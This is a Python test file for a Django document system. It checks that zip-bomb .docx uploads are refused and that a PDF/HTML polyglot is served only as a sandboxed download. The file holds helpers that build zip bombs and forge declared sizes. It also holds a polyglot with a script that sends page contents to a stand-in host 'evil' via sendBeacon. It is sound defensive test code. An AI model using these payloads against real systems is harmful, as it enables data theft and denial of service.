"""Uploads that would hurt whoever opens them (issue 9, point 13).

A .docx whose word/document.xml inflates to 1 GiB, a [Content_Types].xml that declares
4 GiB, a member that hides a big stream behind a small declared size, too many members,
an exotic compression method: refused from the ZIP's directory, nothing decompressed,
nothing stored. A PDF/HTML polyglot is accepted as a PDF and only ever handed back as a
download that no browser renders (attachment, nosniff, a sandboxing CSP).
"""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from documents.choices import IncomingState as S
from documents.choices import OutgoingState as O
from documents.files.checks import KINDS, sniff
from documents.files.services import attachment_add
from documents.models import Attachment
from office.models import AuditEvent
from tests.helpers import client_for

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                 b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
RELS = b'<?xml version="1.0" encoding="UTF-8"?><Relationships/>'
POLYGLOT = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n<html><head><title>x</title></head><body>"
            b"<script>fetch('/documents/incoming/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
            b"</script></body></html>\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")


def docx_with(path: Path | None = None, *, document_zeros: int = 0, members: int = 0, method=zipfile.ZIP_DEFLATED,
              extra: bytes = b"") -> bytes | Path:
    """A .docx (its parts' names are what makes it one), word/document.xml holding ``document_zeros``
    zero bytes written as a stream — cheap to build, huge to unpack."""
    target = path or io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELS)
        with archive.open("word/document.xml", "w", force_zip64=document_zeros > 2**31) as part:
            part.write(b"<w:document>" + extra)
            chunk = bytes(16 * MB)
            left = document_zeros
            while left > 0:
                part.write(chunk[:left])
                left -= len(chunk)
        for n in range(members):
            archive.writestr(f"word/media/p{n}.xml", b"<x/>")
        if method != zipfile.ZIP_DEFLATED:
            archive.writestr(zipfile.ZipInfo("word/styles.xml"), b"<w:styles/>" * 10, compress_type=method)
    return path if path else target.getvalue()


def declare_size(data: bytes, member: str, size: int) -> bytes:
    """The same package with ``member``'s uncompressed size in the central directory set to ``size``."""
    raw = bytearray(data)
    name = member.encode()
    at = raw.find(b"PK\x01\x02")
    while at != -1:
        name_len = struct.unpack_from("<H", raw, at + 28)[0]
        if raw[at + 46:at + 46 + name_len] == name:
            struct.pack_into("<I", raw, at + 24, size)
            return bytes(raw)
        at = raw.find(b"PK\x01\x02", at + 46)
    raise AssertionError(member)


@pytest.fixture(scope="session")
def gigabyte_docx(tmp_path_factory) -> bytes:
    """word/document.xml: 1 GiB of zeros, about 4.5 MB packed (built once, ~5 s)."""
    return docx_with(tmp_path_factory.mktemp("bombs") / "bomb.docx", document_zeros=1024 * MB).read_bytes()


@pytest.fixture
def storage(settings, tmp_path) -> Path:
    settings.DOCUMENTS_STORAGE_ROOT = tmp_path / "documents"
    return tmp_path / "documents"


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def refusal(content: bytes, name: str = "通知.docx") -> str:
    with pytest.raises(ValidationError) as refused:
        sniff(io.BytesIO(content), name)
    assert refused.value.code == "file_zip_bomb"
    return refused.value.messages[0]




# --- the checks, on the file -------------------------------------------------------------------


def test_a_docx_whose_document_inflates_to_a_gigabyte_is_refused(gigabyte_docx):
    assert len(gigabyte_docx) < 10 * MB  # small enough to pass the upload limit
    message = refusal(gigabyte_docx)
    assert message.startswith("“通知.docx”不予接收：解压后总大小超过200 MB")
    assert "压缩炸弹" in message


def test_a_content_types_bomb_is_refused():
    bomb = declare_size(docx_with(), "[Content_Types].xml", 0xFFFFFFF0)
    assert "解压后总大小超过200 MB" in refusal(bomb)


def test_one_member_over_its_limit_is_refused(settings):
    settings.DOCUMENT_ZIP_LIMITS = {"total_mb": 1000, "member_mb": 10}
    assert "其中“word/document.xml”解压后超过10 MB" in refusal(docx_with(document_zeros=20 * MB))


def test_a_member_compressed_beyond_the_ratio_is_refused():
    message = refusal(docx_with(document_zeros=50 * MB))
    assert "其中“word/document.xml”的压缩比超过100:1" in message


def test_a_member_hiding_a_big_stream_behind_a_small_declared_size_is_refused():
    bomb = declare_size(docx_with(document_zeros=100 * MB), "word/document.xml", 1000)
    assert "其中“word/document.xml”声明的大小与内容不符" in refusal(bomb)


def test_too_many_members_are_refused():
    assert "包含的文件过多（5004个，上限5000个）" in refusal(docx_with(members=5001))


def test_an_unusual_compression_method_is_refused():
    assert "其中“word/styles.xml”使用了不支持的压缩方式" in refusal(docx_with(method=zipfile.ZIP_BZIP2))


def test_the_limits_come_from_the_settings(settings):
    settings.DOCUMENT_ZIP_LIMITS = {"members": 10}
    assert "上限10个" in refusal(docx_with(members=10))


def test_ordinary_documents_still_pass():
    """A real .docx of the GB/T 9704 renderer, and a 5 MB document.xml of text at a usual ratio."""
    from documents.layout import Sheet
    from documents.layout.docx import render_docx

    real = render_docx(Sheet(title="关于做好高校毕业生就业服务工作的通知", body=("一、提高思想认识",) * 200))
    assert sniff(io.BytesIO(real), "通知.docx") is KINDS["docx"]
    text = "".join(f"<w:p><w:r><w:t>第{n}段：各单位要按照要求认真落实。</w:t></w:r></w:p>" for n in range(60_000))
    big = docx_with(extra=text.encode())
    assert sniff(io.BytesIO(big), "报告.docx") is KINDS["docx"]


# --- through the service and the page: nothing kept ----------------------------------------------


def test_a_bomb_attached_through_the_service_leaves_nothing(walk, people, storage, gigabyte_docx):
    document = walk(S.REGISTERED)
    with pytest.raises(ValidationError, match="压缩炸弹"):
        attachment_add(actor=people["zhouting"], document=document,
                       upload=SimpleUploadedFile("通知.docx", gigabyte_docx))
    assert not Attachment.objects.exists() and stored_files(storage) == []


def test_the_upload_page_refuses_a_bomb_with_a_message_in_chinese(walk, people, storage, gigabyte_docx):
    document = walk(S.REGISTERED)
    response = client_for(people["zhouting"]).post(
        reverse("documents:attachment_upload", args=[document.pk]),
        {"file": SimpleUploadedFile("通知.docx", gigabyte_docx, content_type="application/octet-stream")},
    )
    assert response.status_code == 302
    messages = [str(m) for m in response.wsgi_request._messages]
    assert len(messages) == 1 and messages[0].startswith("“通知.docx”不予接收：解压后总大小超过200 MB")
    assert not Attachment.objects.exists() and stored_files(storage) == []
    assert not AuditEvent.objects.filter(action="incoming.attach").exists()


def test_a_content_types_bomb_is_refused_on_a_draft_too(outgoing_walk, people, storage):
    draft = outgoing_walk(to=O.DRAFTING)
    bomb = declare_size(docx_with(), "[Content_Types].xml", 0xFFFFFFF0)
    response = client_for(people["qianli"]).post(
        reverse("documents:outgoing_attachment_upload", args=[draft.pk]),
        {"file": SimpleUploadedFile("附件1.docx", bomb)},
    )
    assert response.status_code == 302
    assert "压缩炸弹" in "".join(str(m) for m in response.wsgi_request._messages)
    assert not Attachment.objects.exists() and stored_files(storage) == []


# --- a PDF/HTML polyglot: accepted as a PDF, never rendered ------------------------------------------


def assert_never_rendered(response, name: str) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;") and name in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = [part.strip() for part in response["Content-Security-Policy"].split(";")]
    assert "sandbox" in policy and "default-src 'none'" in policy


@pytest.mark.parametrize("name", ["report.pdf", "report.html"])
def test_a_pdf_html_polyglot_is_downloaded_only_as_an_attachment(walk, people, storage, name):
    document = walk(S.REGISTERED)
    client = client_for(people["zhouting"])
    client.post(reverse("documents:attachment_upload", args=[document.pk]),
                {"file": SimpleUploadedFile(name, POLYGLOT, content_type="text/html")})
    attachment = Attachment.objects.get()
    assert attachment.content_type == "application/pdf" and attachment.original_name.endswith(".pdf")
    response = client.get(reverse("documents:attachment_download", args=[attachment.pk]))
    assert_never_rendered(response, attachment.original_name)
    assert b"".join(response.streaming_content) == POLYGLOT  # kept as sent, never rewritten


def test_a_polyglot_attached_to_a_draft_is_downloaded_only_as_an_attachment(outgoing_walk, people, storage):
    draft = outgoing_walk(to=O.DRAFTING)
    client = client_for(people["qianli"])
    client.post(reverse("documents:outgoing_attachment_upload", args=[draft.pk]),
                {"file": SimpleUploadedFile("说明.pdf", POLYGLOT, content_type="application/pdf")})
    attachment = Attachment.objects.get(outgoing=draft)
    response = client.get(reverse("documents:attachment_download", args=[attachment.pk]))
    assert_never_rendered(response, "attachment")
